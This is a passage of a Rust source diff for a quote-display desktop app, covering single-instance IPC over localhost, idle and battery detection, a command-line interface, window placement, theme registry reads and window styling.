+}
+
+// =============================================================================
+// SINGLE INSTANCE
+// =============================================================================
+
+/// Keeps a second launch from opening another window: it hands its request
+/// to the running instance instead. Windows uses a named mutex (released by
+/// the OS if the owner crashes) plus a loopback port; elsewhere a lock file
+/// and a Unix socket, where a lock whose socket refuses connections is stale.
+mod single_instance {
+    use super::Quote;
+    use serde::{Deserialize, Serialize};
+    use std::io::{BufRead, BufReader, Read, Write};
+    use std::path::PathBuf;
+    use std::sync::mpsc::{self, Receiver, Sender};
+
+    /// Requests a secondary launch forwards to the primary instance
+    #[derive(Debug, Serialize, Deserialize)]
+    pub enum InstanceMessage {
+        Focus,
+        AddQuote(Quote),
+        NextQuote,
+    }
+
+    pub enum Instance {
+        /// We are the first instance; messages from later launches arrive here
+        Primary(InstanceGuard),
+        /// Another instance is already running
+        Running,
+        /// The mechanism could not be set up; run without it
+        Unavailable,
+    }
+
+    #[derive(Debug)]
+    pub struct InstanceGuard {
+        pub messages: Receiver<InstanceMessage>,
+        #[cfg(windows)]
+        mutex: windows::Win32::Foundation::HANDLE,
+    }
+
+    fn runtime_path(name: &str) -> PathBuf {
+        std::env::temp_dir().join(name)
+    }
+
+    /// Read newline separated JSON messages from one connection
+    fn read_messages(stream: impl Read, tx: &Sender<InstanceMessage>) {
+        for line in BufReader::new(stream).lines().map_while(Result::ok) {
+            if let Ok(message) = serde_json::from_str(&line) {
+                let _ = tx.send(message);
+            }
+        }
+    }
+
+    fn write_messages(mut stream: impl Write, messages: &[InstanceMessage]) -> std::io::Result<()> {
+        for message in messages {
+            let line = serde_json::to_string(message)?;
+            writeln!(stream, "{}", line)?;
+        }
+        stream.flush()
+    }
+
+    #[cfg(windows)]
+    const MUTEX_NAME: windows::core::PCWSTR =
+        windows::core::w!("Local\\DailyMotivation.SingleInstance");
+
+    #[cfg(windows)]
+    fn port_path() -> PathBuf {
+        runtime_path("daily_motivation.port")
+    }
+
+    #[cfg(windows)]
+    pub fn acquire() -> Instance {
+        use std::net::TcpListener;
+        use windows::Win32::Foundation::{CloseHandle, GetLastError, ERROR_ALREADY_EXISTS};
+        use windows::Win32::System::Threading::CreateMutexW;
+
+        let Ok(mutex) = (unsafe { CreateMutexW(None, true, MUTEX_NAME) }) else {
+            return Instance::Unavailable;
+        };
+        if unsafe { GetLastError() } == ERROR_ALREADY_EXISTS {
+            unsafe {
+                let _ = CloseHandle(mutex);
+            }
+            return Instance::Running;
+        }
+
+        let (tx, messages) = mpsc::channel();
+        if let Ok(listener) = TcpListener::bind("127.0.0.1:0") {
+            if let Ok(addr) = listener.local_addr() {
+                let _ = std::fs::write(port_path(), addr.port().to_string());
+            }
+            std::thread::spawn(move || {
+                for stream in listener.incoming().flatten() {
+                    read_messages(stream, &tx);
+                }
+            });
+        }
+        Instance::Primary(InstanceGuard { messages, mutex })
+    }
+
+    /// Deliver messages to the running instance
+    #[cfg(windows)]
+    pub fn send(messages: &[InstanceMessage]) -> std::io::Result<()> {
+        let port: u16 = std::fs::read_to_string(port_path())?
+            .trim()
+            .parse()
+            .map_err(|_| std::io::Error::other("invalid port file"))?;
+        let stream = std::net::TcpStream::connect(("127.0.0.1", port))?;
+        write_messages(stream, messages)
+    }
+
+    #[cfg(windows)]
+    impl Drop for InstanceGuard {
+        fn drop(&mut self) {
+            use windows::Win32::Foundation::CloseHandle;
+            use windows::Win32::System::Threading::ReleaseMutex;
+            let _ = std::fs::remove_file(port_path());
+            unsafe {
+                let _ = ReleaseMutex(self.mutex);
+                let _ = CloseHandle(self.mutex);
+            }
+        }
+    }
+
+    #[cfg(unix)]
+    fn lock_path() -> PathBuf {
+        runtime_path("daily_motivation.lock")
+    }
+
+    #[cfg(unix)]
+    fn socket_path() -> PathBuf {
+        runtime_path("daily_motivation.sock")
+    }
+
+    #[cfg(unix)]
+    fn create_lock() -> bool {
+        std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .open(lock_path())
+            .and_then(|mut file| write!(file, "{}", std::process::id()))
+            .is_ok()
+    }
+
+    #[cfg(unix)]
+    pub fn acquire() -> Instance {
+        use std::os::unix::net::{UnixListener, UnixStream};
+
+        if !create_lock() {
+            if UnixStream::connect(socket_path()).is_ok() {
+                return Instance::Running;
+            }
+            // Nobody is listening: the previous owner crashed
+            let _ = std::fs::remove_file(lock_path());
+            if !create_lock() {
+                return Instance::Unavailable;
+            }
+        }
+
+        let _ = std::fs::remove_file(socket_path());
+        let Ok(listener) = UnixListener::bind(socket_path()) else {
+            let _ = std::fs::remove_file(lock_path());
+            return Instance::Unavailable;
+        };
+        let (tx, messages) = mpsc::channel();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                read_messages(stream, &tx);
+            }
+        });
+        Instance::Primary(InstanceGuard { messages })
+    }
+
+    /// Deliver messages to the running instance
+    #[cfg(unix)]
+    pub fn send(messages: &[InstanceMessage]) -> std::io::Result<()> {
+        let stream = std::os::unix::net::UnixStream::connect(socket_path())?;
+        write_messages(stream, messages)
+    }
+
+    #[cfg(unix)]
+    impl Drop for InstanceGuard {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_file(socket_path());
+            let _ = std::fs::remove_file(lock_path());
+        }
+    }
+
+    #[cfg(not(any(windows, unix)))]
+    pub fn acquire() -> Instance {
+        Instance::Unavailable
+    }
+
+    #[cfg(not(any(windows, unix)))]
+    pub fn send(_messages: &[InstanceMessage]) -> std::io::Result<()> {
+        Err(std::io::Error::from(std::io::ErrorKind::Unsupported))
+    }
+}
+
+use single_instance::{Instance, InstanceMessage};
+
+// =============================================================================
+// PLATFORM (user presence)
+// =============================================================================
+
+/// Why rotation is currently held
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum IdleHold {
+    // A quote is pinned on screen (see `AppState::toggle_pin`)
+    Pinned,
+    Idle,
+    Locked,
+    // Theme modal, an editor or a focused text field: the quote underneath
+    // stays put until it's done
+    Editing,
+}
+
+impl IdleHold {
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Pinned => "PINNED",
+            Self::Idle => "HELD · IDLE",
+            Self::Locked => "HELD · LOCKED",
+            Self::Editing => "HELD · EDITING",
+        }
+    }
+}
+
+use platform::{IdleSource, SystemIdleSource};
+
+/// OS queries for user presence, behind a trait so the hold logic can run
+/// against a mock source
+mod platform {
+    use std::time::Duration;
+
+    /// Where user presence comes from
+    pub trait IdleSource: std::fmt::Debug {
+        /// Time since the last keyboard/mouse input anywhere on the system, or
+        /// None when the platform can't tell (callers fall back to in-app input)
+        fn idle_for(&self) -> Option<Duration>;
+        /// Whether the session is locked (or the input desktop is unavailable)
+        fn session_locked(&self) -> bool;
+    }
+
+    #[derive(Debug, Default)]
+    pub struct SystemIdleSource;
+
+    #[cfg(windows)]
+    impl IdleSource for SystemIdleSource {
+        fn idle_for(&self) -> Option<Duration> {
+            use windows::Win32::System::SystemInformation::GetTickCount;
+            use windows::Win32::UI::Input::KeyboardAndMouse::{GetLastInputInfo, LASTINPUTINFO};
+
+            let mut info = LASTINPUTINFO {
+                cbSize: std::mem::size_of::<LASTINPUTINFO>() as u32,
+                dwTime: 0,
+            };
+            unsafe {
+                if !GetLastInputInfo(&mut info).as_bool() {
+                    return None;
+                }
+                // Both are 32-bit tick counts; wrapping_sub survives the 49-day rollover
+                Some(Duration::from_millis(
+                    GetTickCount().wrapping_sub(info.dwTime) as u64,
+                ))
+            }
+        }
+
+        fn session_locked(&self) -> bool {
+            use windows::Win32::Foundation::BOOL;
+            use windows::Win32::System::StationsAndDesktops::{
+                CloseDesktop, OpenInputDesktop, DESKTOP_CONTROL_FLAGS, DESKTOP_SWITCHDESKTOP,
+            };
+
+            // The secure (lock screen) desktop can't be opened from the user session
+            unsafe {
+                match OpenInputDesktop(DESKTOP_CONTROL_FLAGS(0), BOOL(0), DESKTOP_SWITCHDESKTOP) {
+                    Ok(desktop) => {
+                        let _ = CloseDesktop(desktop);
+                        false
+                    }
+                    Err(_) => true,
+                }
+            }
+        }
+    }
+
+    #[cfg(not(windows))]
+    impl IdleSource for SystemIdleSource {
+        fn idle_for(&self) -> Option<Duration> {
+            None
+        }
+
+        fn session_locked(&self) -> bool {
+            false
+        }
+    }
+}
+
+/// Battery/AC status for low power mode
+mod power {
+    /// Some(true) while running on battery, None when the platform can't tell
+    /// (desktops without a battery report Some(false))
+    #[cfg(windows)]
+    pub fn on_battery() -> Option<bool> {
+        use windows::Win32::System::Power::{GetSystemPowerStatus, SYSTEM_POWER_STATUS};
+
+        let mut status = SYSTEM_POWER_STATUS::default();
+        unsafe { GetSystemPowerStatus(&mut status) }.ok()?;
+        // ACLineStatus: 0 offline, 1 online, 255 unknown
+        match status.ACLineStatus {
+            0 => Some(true),
+            1 => Some(false),
+            _ => None,
+        }
+    }
+
+    /// Reads /sys/class/power_supply: on battery when a battery is
+    /// discharging and no mains supply is online
+    #[cfg(target_os = "linux")]
+    pub fn on_battery() -> Option<bool> {
+        let read = |path: std::path::PathBuf| {
+            std::fs::read_to_string(path)
+                .map(|s| s.trim().to_string())
+                .ok()
+        };
+        let mut discharging = false;
+        let mut seen = false;
+        for entry in std::fs::read_dir("/sys/class/power_supply").ok()?.flatten() {
+            let dir = entry.path();
+            match read(dir.join("type")).as_deref() {
+                Some("Mains") => {
+                    seen = true;
+                    if read(dir.join("online")).as_deref() == Some("1") {
+                        return Some(false);
+                    }
+                }
+                Some("Battery") => {
+                    seen = true;
+                    discharging |= read(dir.join("status")).as_deref() == Some("Discharging");
+                }
+                _ => {}
+            }
+        }
+        seen.then_some(discharging)
+    }
+
+    #[cfg(not(any(windows, target_os = "linux")))]
+    pub fn on_battery() -> Option<bool> {
+        None
+    }
+}
+
+// =============================================================================
+// COMMAND LINE INTERFACE
+// =============================================================================
+
+/// Command line arguments; without a subcommand the GUI starts
+#[derive(clap::Parser, Debug)]
+#[command(
+    name = "daily_motivation",
+    version,
+    about = "Daily Motivation quote display"
+)]
+struct Cli {
+    /// Print machine-readable JSON instead of text
+    #[arg(long, global = true)]
+    json: bool,
+
+    /// Start in presentation (kiosk) mode
+    #[arg(long)]
+    kiosk: bool,
+
+    /// Start without custom fonts, text shaping, the 3D background, window
+    /// animations or always-on-top, for when the app won't start otherwise
+    /// (also chosen automatically after a run that crashed starting up)
+    #[arg(long)]
+    safe_mode: bool,
+
+    /// Seed every random choice, so the same quotes rotate in the same order
+    /// on every run (e.g. for recording demos)
+    #[arg(long, value_name = "U64")]
+    seed: Option<u64>,
+
+    /// Run alongside an already open window instead of handing over to it
+    #[arg(long, global = true)]
+    allow_multiple: bool,
+
+    #[command(subcommand)]
+    command: Option<CliCommand>,
+}
+
+#[derive(clap::Subcommand, Debug)]
+enum CliCommand {
+    /// Add a quote to the active collection
+    Add {
+        /// Main quote text
+        text: String,
+        /// Supporting line shown under the quote
+        #[arg(long)]
+        sub: Option<String>,
+        /// Tag to attach (repeatable)
+        #[arg(long = "tag")]
+        tags: Vec<String>,
+    },
+    /// List the quotes of the active collection
+    List,
+    /// Export the active collection to a file
+    Export {
+        /// Output file
+        path: std::path::PathBuf,
+        #[arg(long, value_enum, default_value_t = ExportFormat::Json)]
+        format: ExportFormat,
+        /// Append archived (deleted) quotes
+        #[arg(long)]
+        include_archived: bool,
+        /// Keep private notes in Markdown output (JSON always has them)
+        #[arg(long)]
+        include_notes: bool,
+    },
+    /// Advance to the next quote (a running window picks it up on reload)
+    Next,
+}
+
+#[derive(clap::ValueEnum, Clone, Copy, Debug)]
+enum ExportFormat {
+    Json,
+    Md,
+}
+
+/// Run a subcommand against settings.json and return the process exit code.
+/// With `forward`, quotes go to a running window instead of the file.
+fn run_cli_command(command: CliCommand, json: bool, forward: bool) -> i32 {
+    match cli_command(command, forward) {
+        Ok(output) => {
+            if json {
+                println!("{}", output);
+            } else if let Some(text) = output.get("text").and_then(|t| t.as_str()) {
+                println!("{}", text);
+            }
+            0
+        }
+        Err(err) => {
+            if json {
+                eprintln!("{}", serde_json::json!({ "error": err }));
+            } else {
+                eprintln!("error: {}", err);
+            }
+            1
+        }
+    }
+}
+
+/// Execute a subcommand; the returned JSON carries a human readable "text" field
+fn cli_command(command: CliCommand, forward: bool) -> Result<serde_json::Value, String> {
+    // Never overwrite a settings file we failed to read
+    let mut config = match AppConfig::load() {
+        Ok(config) => config,
+        Err(err) if err.is_missing() => AppConfig::default(),
+        Err(err) => return Err(err.to_string()),
+    };
+    config.normalize_collections();
+    let active = config.active_collection;
+
+    match command {
+        CliCommand::Add { text, sub, tags } => {
+            if text.trim().is_empty() {
+                return Err("quote text must not be empty".to_string());
+            }
+            let sub = sub
+                .filter(|s| !s.trim().is_empty())
+                .unwrap_or_else(|| config.default_sub_text.clone());
+            let mut quote = if config.clean_quote_text {
+                Quote::new(sanitize_quote_text(&text), sanitize_quote_text(&sub))
+            } else {
+                Quote::new(text.trim(), sub.trim())
+            };
+            quote.tags = parse_tags(&tags.join(","));
+
+            // A running window owns settings.json; let it add the quote
+            if forward && single_instance::send(&[InstanceMessage::AddQuote(quote.clone())]).is_ok()
+            {
+                return Ok(serde_json::json!({
+                    "text": "Sent quote to the running window",
+                    "forwarded": true,
+                    "quote": quote,
+                }));
+            }
+
+            let quotes = &mut config.collections[active].quotes;
+            quotes.push(quote.clone());
+            let index = quotes.len() - 1;
+            save_cli_config(&config)?;
+            Ok(serde_json::json!({
+                "text": format!("Added quote #{}", index + 1),
+                "index": index,
+                "quote": quote,
+            }))
+        }
+        CliCommand::List => {
+            let collection = &config.collections[active];
+            let text = collection
+                .quotes
+                .iter()
+                .enumerate()
+                .map(|(i, q)| {
+                    let tags: String = q.tags.iter().map(|t| format!(" #{}", t)).collect();
+                    format!("{:>3}. {} — {}{}", i + 1, q.main_text, q.sub_text, tags)
+                })
+                .collect::<Vec<_>>()
+                .join("\n");
+            Ok(serde_json::json!({
+                "text": text,
+                "collection": collection.name,
+                "quotes": collection.quotes,
+            }))
+        }
+        CliCommand::Export {
+            path,
+            format,
+            include_archived,
+            include_notes,
+        } => {
+            let mut collection = config.collections[active].clone();
+            if include_archived {
+                collection.quotes.extend(config.archived.iter().cloned());
+            }
+            let collection = &collection;
+            let contents = match format {
+                ExportFormat::Json => {
+                    serde_json::to_string_pretty(&collection.quotes).map_err(|e| e.to_string())?
+                }
+                ExportFormat::Md => quotes_to_markdown(collection, include_notes),
+            };
+            std::fs::write(&path, contents)
+                .map_err(|e| format!("could not write {}: {}", path.display(), e))?;
+            Ok(serde_json::json!({
+                "text": format!(
+                    "Exported {} quotes to {}",
+                    collection.quotes.len(),
+                    path.display()
+                ),
+                "count": collection.quotes.len(),
+                "path": path,
+            }))
+        }
+        CliCommand::Next => {
+            let len = config.collections[active].quotes.len();
+            if len == 0 {
+                return Err("the active collection has no quotes".to_string());
+            }
+            if config.pinned_quote.is_some() {
+                return Err("a quote is pinned; unpin it in the app first".to_string());
+            }
+            // A running window owns settings.json; let it step
+            if forward && single_instance::send(&[InstanceMessage::NextQuote]).is_ok() {
+                return Ok(serde_json::json!({
+                    "text": "Sent NEXT to the running window",
+                    "forwarded": true,
+                }));
+            }
+            let index = (config.current_quote_index + 1) % len;
+            config.current_quote_index = index;
+            // Asked for explicitly, so it overrides today's quote in daily mode
+            if config.rotation_mode == RotationMode::Daily {
+                let date = chrono::Local::now().date_naive();
+                config.daily_quote = Some(DailyQuote { date, index });
+            }
+            save_cli_config(&config)?;
+            let quote = &config.collections[active].quotes[index];
+            Ok(serde_json::json!({
+                "text": format!("#{}: {}", index + 1, quote.main_text),
+                "index": index,
+                "quote": quote,
+            }))
+        }
+    }
+}
+
+fn save_cli_config(config: &AppConfig) -> Result<(), String> {
+    if config.is_from_future() {
+        return Err(format!(
+            "{} was written by a newer version; refusing to modify it",
+            SETTINGS_FILE
+        ));
+    }
+    config.save().map(|_| ()).map_err(|e| e.to_string())
+}
+
+/// Render a collection as a Markdown list of blockquotes
+fn quotes_to_markdown(collection: &Collection, include_notes: bool) -> String {
+    let mut md = format!("# {}\n\n", collection.name);
+    for quote in &collection.quotes {
+        md.push_str(&format!(
+            "> {}\n>\n> — {}\n",
+            quote.main_text, quote.sub_text
+        ));
+        if let Some(translation) = quote.translation() {
+            md.push_str(&format!(">\n> *{}*\n", translation));
+        }
+        if let Some(url) = quote.source_url() {
+            md.push_str(&format!("\n[Source]({})\n", url));
+        }
+        if let Some(note) = quote.note().filter(|_| include_notes) {
+            md.push_str(&format!("\n📝 {}\n", note));
+        }
+        md.push_str(&format!("\n{}\n", stars(quote.rating)));
+        if !quote.tags.is_empty() {
+            let tags: Vec<String> = quote.tags.iter().map(|t| format!("`#{}`", t)).collect();
+            md.push_str(&format!("\n{}\n", tags.join(" ")));
+        }
+        md.push('\n');
+    }
+    md
+}
+
+/// "★★★☆☆" for a rating
+fn stars(rating: u8) -> String {
+    let filled = rating.min(MAX_RATING) as usize;
+    "★".repeat(filled) + &"☆".repeat(MAX_RATING as usize - filled)
+}
+
+// =============================================================================
+// MAIN ENTRY POINT
+// =============================================================================
+
+#[cfg(windows)]
+fn get_global_cursor() -> Option<(i32, i32)> {
+    use windows::Win32::Foundation::POINT;
+    use windows::Win32::UI::WindowsAndMessaging::GetCursorPos;
+    let mut pt = POINT::default();
+    if unsafe { GetCursorPos(&mut pt) }.is_ok() {
+        Some((pt.x, pt.y))
+    } else {
+        None
+    }
+}
+
+#[cfg(not(windows))]
+fn get_global_cursor() -> Option<(i32, i32)> {
+    None
+}
+
+/// Usable area (x, y, width, height) of the window's monitor, taskbar
+/// excluded. Windows only reports this for the primary monitor, so other
+/// monitors fall back to their full bounds.
+fn work_area(window: &Window) -> Option<(i32, i32, u32, u32)> {
+    Some(monitor_work_area(&window.current_monitor()?))
+}
+
+/// Work area of `monitor`: the primary work area when it lies on this
+/// monitor, otherwise the monitor's full bounds
+fn monitor_work_area(monitor: &winit::monitor::MonitorHandle) -> (i32, i32, u32, u32) {
+    let (pos, size) = (monitor.position(), monitor.size());
+    let inside = |&(x, y, w, h): &(i32, i32, u32, u32)| {
+        x >= pos.x
+            && y >= pos.y
+            && x + w as i32 <= pos.x + size.width as i32
+            && y + h as i32 <= pos.y + size.height as i32
+    };
+    primary_work_area()
+        .filter(inside)
+        .unwrap_or((pos.x, pos.y, size.width, size.height))
+}
+
+/// Startup position for a window of `size` (logical) under `placement`.
+/// Whatever can't be resolved (no cursor position, a remembered spot on a
+/// monitor that's gone) centers on the primary monitor instead.
+fn initial_window_position(
+    event_loop: &ActiveEventLoop,
+    placement: WindowPlacement,
+    remembered: Option<(i32, i32)>,
+    size: (u32, u32),
+) -> Option<PhysicalPosition<i32>> {
+    let monitors: Vec<_> = event_loop.available_monitors().collect();
+    let on_monitor = |monitor: &winit::monitor::MonitorHandle, (x, y): (i32, i32)| {
+        let (pos, area) = (monitor.position(), monitor.size());
+        x >= pos.x && y >= pos.y && x < pos.x + area.width as i32 && y < pos.y + area.height as i32
+    };
+
+    let target = match placement {
+        WindowPlacement::Remembered => {
+            // Checked a little inside the corner so a window nudged just past
+            // the edge still counts as on screen
+            if let Some((x, y)) = remembered
+                .filter(|&(x, y)| monitors.iter().any(|m| on_monitor(m, (x + 20, y + 20))))
+            {
+                return Some(PhysicalPosition::new(x, y));
+            }
+            None
+        }
+        WindowPlacement::CursorMonitor => get_global_cursor()
+            .and_then(|cursor| monitors.iter().find(|m| on_monitor(m, cursor)).cloned()),
+        WindowPlacement::PrimaryMonitor => None,
+    };
+    let monitor = target
+        .or_else(|| event_loop.primary_monitor())
+        .or_else(|| monitors.first().cloned())?;
+
+    let (x, y, w, h) = monitor_work_area(&monitor);
+    let scale = monitor.scale_factor();
+    let width = (size.0 as f64 * scale).round() as i32;
+    let height = (size.1 as f64 * scale).round() as i32;
+    Some(PhysicalPosition::new(
+        x + (w as i32 - width).max(0) / 2,
+        y + (h as i32 - height).max(0) / 2,
+    ))
+}
+
+#[cfg(windows)]
+fn primary_work_area() -> Option<(i32, i32, u32, u32)> {
+    use windows::Win32::Foundation::RECT;
+    use windows::Win32::UI::WindowsAndMessaging::{
+        SystemParametersInfoW, SPI_GETWORKAREA, SYSTEM_PARAMETERS_INFO_UPDATE_FLAGS,
+    };
+    let mut rect = RECT::default();
+    unsafe {
+        SystemParametersInfoW(
+            SPI_GETWORKAREA,
+            0,
+            Some(&mut rect as *mut RECT as *mut _),
+            SYSTEM_PARAMETERS_INFO_UPDATE_FLAGS(0),
+        )
+    }
+    .ok()?;
+    Some((
+        rect.left,
+        rect.top,
+        (rect.right - rect.left) as u32,
+        (rect.bottom - rect.top) as u32,
+    ))
+}
+
+#[cfg(not(windows))]
+fn primary_work_area() -> Option<(i32, i32, u32, u32)> {
+    None
+}
+
+fn log_to_file(msg: &str) {
+    if let Ok(mut file) = OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open("debug.log")
+    {
+        let _ = writeln!(file, "{}", msg);
+    }
+}
+
+/// Brightness and accent color the OS is currently set to
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct SystemTheme {
+    pub light: bool,
+    pub accent: Option<Color32>,
+}
+
+/// Read "Choose your app mode" and the accent color from the personalization
+/// registry keys
+#[cfg(windows)]
+fn read_system_theme() -> Option<SystemTheme> {
+    use windows::core::{w, PCWSTR};
+    use windows::Win32::Foundation::ERROR_SUCCESS;
+    use windows::Win32::System::Registry::{RegGetValueW, HKEY_CURRENT_USER, RRF_RT_REG_DWORD};
+
+    let read_dword = |key: PCWSTR, value: PCWSTR| -> Option<u32> {
+        let mut data: u32 = 0;
+        let mut size = std::mem::size_of::<u32>() as u32;
+        let status = unsafe {
+            RegGetValueW(
+                HKEY_CURRENT_USER,
+                key,
+                value,
+                RRF_RT_REG_DWORD,
+                None,
+                Some(&mut data as *mut u32 as *mut std::ffi::c_void),
+                Some(&mut size),
+            )
+        };
+        (status == ERROR_SUCCESS).then_some(data)
+    };
+
+    let light = read_dword(
+        w!("Software\\Microsoft\\Windows\\CurrentVersion\\Themes\\Personalize"),
+        w!("AppsUseLightTheme"),
+    )?;
+    // AccentColor is stored as 0xAABBGGRR
+    let accent = read_dword(w!("Software\\Microsoft\\Windows\\DWM"), w!("AccentColor"))
+        .map(|v| Color32::from_rgb(v as u8, (v >> 8) as u8, (v >> 16) as u8));
+    Some(SystemTheme {
+        light: light != 0,
+        accent,
+    })
+}
+
+#[cfg(not(windows))]
+fn read_system_theme() -> Option<SystemTheme> {
+    // No portable source; the manual settings stay in effect
+    None
+}
+
+/// Window level for the always-on-top setting
+fn window_level(always_on_top: bool) -> winit::window::WindowLevel {
+    if always_on_top {
+        winit::window::WindowLevel::AlwaysOnTop
+    } else {
+        winit::window::WindowLevel::Normal
+    }
+}
+
+/// Keep the window above other apps or let it stack like any other. The 3D
+/// background child re-glues itself right behind us either way.
+fn set_always_on_top(window: &Window, state: &mut AppState, on: bool) {
+    state.always_on_top = on;
+    window.set_window_level(window_level(on));
+    state.save();
+}
+
+/// Let the mouse through to the apps underneath, for an overlay that keeps
+/// rotating quotes over your work, or take it back. The window can't be
+/// clicked while it's on, so only the global shortcut turns it off.
+fn set_click_through(window: &Window, state: &mut AppState, on: bool) {
+    // On Windows winit sets WS_EX_TRANSPARENT | WS_EX_LAYERED for this
+    if let Err(e) = window.set_cursor_hittest(!on) {
+        log_to_file(&format!("Click-through unavailable: {}", e));
+        state.push_toast(ToastKind::Error, "Click-through isn't supported here");
+        return;
+    }
+    state.click_through = on;
+    // winit rewrites the extended style, which can drop the layered bit the
+    // opacity was set through
+    state.applied_opacity = None;
+    state.save();
+}
+
+/// Flip click-through and say how to undo it. Turning it on is refused
+/// without a global shortcut, which would be the only way back.
+fn toggle_click_through(window: &Window, state: &mut AppState, has_hotkey: bool) {
+    if state.click_through {
+        set_click_through(window, state, false);
+        state.push_toast(ToastKind::Info, "Click-through off");
+    } else if !has_hotkey {
+        state.push_toast(
+            ToastKind::Error,
+            format!(
+                "Click-through needs {}, which isn't available",
+                CLICK_THROUGH_HOTKEY_LABEL
+            ),
+        );
+    } else {
+        set_click_through(window, state, true);
+        if state.click_through {
+            state.push_toast(
+                ToastKind::Info,
+                format!(
+                    "Click-through on; {} turns it off",
+                    CLICK_THROUGH_HOTKEY_LABEL
+                ),
+            );
+        }
+    }
+}
+
+/// Hand the window's `effective_opacity` to the OS when it changed
+fn apply_window_opacity(window: &Window, state: &mut AppState, hovered: bool) {
+    let alpha = (state.effective_opacity(hovered) * 255.0).round() as u8;
+    if state.applied_opacity == Some(alpha) {
+        return;
+    }
+    #[cfg(windows)]
+    {
+        use winit::raw_window_handle::RawWindowHandle;
+        let Ok(handle) = window.window_handle() else {
+            return;
+        };
+        let RawWindowHandle::Win32(win32) = handle.as_raw() else {
+            return;
+        };
+        let hwnd = HWND(win32.hwnd.get() as _);
+        unsafe {
+            let ex_style = GetWindowLongW(hwnd, GWL_EXSTYLE);
+            if (ex_style & WS_EX_LAYERED.0 as i32) == 0 {
+                let _ = SetWindowLongW(hwnd, GWL_EXSTYLE, ex_style | WS_EX_LAYERED.0 as i32);
+            }
+            let _ = SetLayeredWindowAttributes(hwnd, None, alpha, LWA_ALPHA);
+        }
+    }
+    #[cfg(not(windows))]
+    let _ = window;
+    state.applied_opacity = Some(alpha);
+}
+
+/// Ask DWM for the theme's backdrop material when it (or light/dark) changed.
+/// The 3D background is a backdrop of its own, so the effect is cleared while
+/// it runs. Builds without DWMWA_SYSTEMBACKDROP_TYPE reject the attribute and
+/// the window keeps its opaque background.
+fn apply_backdrop(window: &Window, state: &mut AppState) {
+    let effect = if state.is_3d_bg_active || state.bg_spawned_at.is_some() {
+        BackdropEffect::None
+    } else {
+        state.theme.backdrop
+    };
+    let wanted = (effect, !state.ui_is_light());
+    if state.applied_backdrop == Some(wanted) {
+        return;
+    }
+    state.applied_backdrop = Some(wanted);
+    state.backdrop_active = false;
+
+    #[cfg(windows)]
+    {
+        use winit::raw_window_handle::RawWindowHandle;
+        let Ok(handle) = window.window_handle() else {
+            return;
+        };
+        let RawWindowHandle::Win32(win32) = handle.as_raw() else {
+            return;
+        };
+        let hwnd = HWND(win32.hwnd.get() as _);
+        let kind: DWM_SYSTEMBACKDROP_TYPE = match effect {
+            BackdropEffect::None => DWMSBT_NONE,
+            BackdropEffect::Acrylic => DWMSBT_TRANSIENTWINDOW,
+            BackdropEffect::Mica => DWMSBT_MAINWINDOW,
+        };
+        // Extending the frame over the whole client area lets the material
+        // show through wherever we paint transparent pixels
+        let inset = if effect == BackdropEffect::None {
+            0
+        } else {
+            -1
+        };
+        let margins = MARGINS {
+            cxLeftWidth: inset,
+            cxRightWidth: inset,
+            cyTopHeight: inset,
+            cyBottomHeight: inset,
+        };
+        let dark = BOOL::from(wanted.1);
+        let applied = unsafe {
+            let _ = DwmSetWindowAttribute(
+                hwnd,
+                DWMWA_USE_IMMERSIVE_DARK_MODE,
+                &dark as *const BOOL as *const std::ffi::c_void,
+                std::mem::size_of::<BOOL>() as u32,
+            );
+            DwmSetWindowAttribute(
+                hwnd,
+                DWMWA_SYSTEMBACKDROP_TYPE,
+                &kind as *const DWM_SYSTEMBACKDROP_TYPE as *const std::ffi::c_void,
+                std::mem::size_of::<DWM_SYSTEMBACKDROP_TYPE>() as u32,
+            )
+            .and_then(|()| DwmExtendFrameIntoClientArea(hwnd, &margins))
+        };
+        match applied {
+            Ok(()) => state.backdrop_active = effect != BackdropEffect::None,
+            Err(e) if effect != BackdropEffect::None => {
+                log_to_file(&format!("Backdrop effect unavailable: {}", e));
+                state.push_toast(
+                    ToastKind::Info,
+                    format!(
+                        "{} needs Windows 11 22H2 or newer; keeping the normal background",
+                        effect.label()
+                    ),
+                );
+            }
+            Err(_) => {}
+        }
+    }
+    #[cfg(not(windows))]
+    let _ = window;
+}
+
+/// Text and icons drawn straight on the panels: white on the dark style,
+/// near-black on the light one
+fn ui_fg(visuals: &egui::Visuals) -> Color32 {
+    if visuals.dark_mode {
+        Color32::WHITE
+    } else {
+        Color32::from_rgb(20, 20, 30)
+    }
+}
+
+/// Shade behind UI text (panel insets, modals, glows): black on the dark
+/// style, white on the light one
+fn ui_shade(visuals: &egui::Visuals, alpha: u8) -> Color32 {
+    if visuals.dark_mode {
+        Color32::from_black_alpha(alpha)
+    } else {
+        Color32::from_white_alpha(alpha)
+    }
+}
+
+/// Global egui style (Year 50k aesthetic), in the dark or the light variant,
+/// with `accent` on hovered/active widgets
+fn ui_style(light: bool, accent: Color32) -> egui::Style {
+    let mut style = egui::Style {
+        visuals: if light {
+            egui::Visuals::light()
+        } else {
+            egui::Visuals::dark()
+        },
+        ..Default::default()
+    };
+    style.visuals.window_fill = CANVAS_BG;
+    style.visuals.panel_fill = CONTROL_PANEL_BG;
+
+    // Add global hover effects for buttons and text visibility
+    let visuals = &mut style.visuals;
+    if light {
+        visuals.widgets.hovered.bg_fill = Color32::from_rgb(215, 215, 225);
+        visuals.widgets.hovered.bg_stroke =
+            egui::Stroke::new(1.0, Color32::BLACK.gamma_multiply(0.4));
+        visuals.widgets.active.bg_fill = Color32::from_rgb(195, 195, 210);
+        visuals.widgets.noninteractive.fg_stroke =
+            egui::Stroke::new(1.0, Color32::from_rgb(30, 40, 60));
+        visuals.widgets.inactive.fg_stroke = egui::Stroke::new(1.0, Color32::from_rgb(20, 20, 30));
+    } else {
+        visuals.widgets.hovered.bg_fill = Color32::from_rgb(80, 80, 90);
+        visuals.widgets.hovered.bg_stroke =
+            egui::Stroke::new(1.0, Color32::WHITE.gamma_multiply(0.5));
+        visuals.widgets.active.bg_fill = Color32::from_rgb(100, 100, 110);
+        visuals.widgets.noninteractive.fg_stroke =
+            egui::Stroke::new(1.0, Color32::from_rgba_unmultiplied(190, 230, 255, 255));
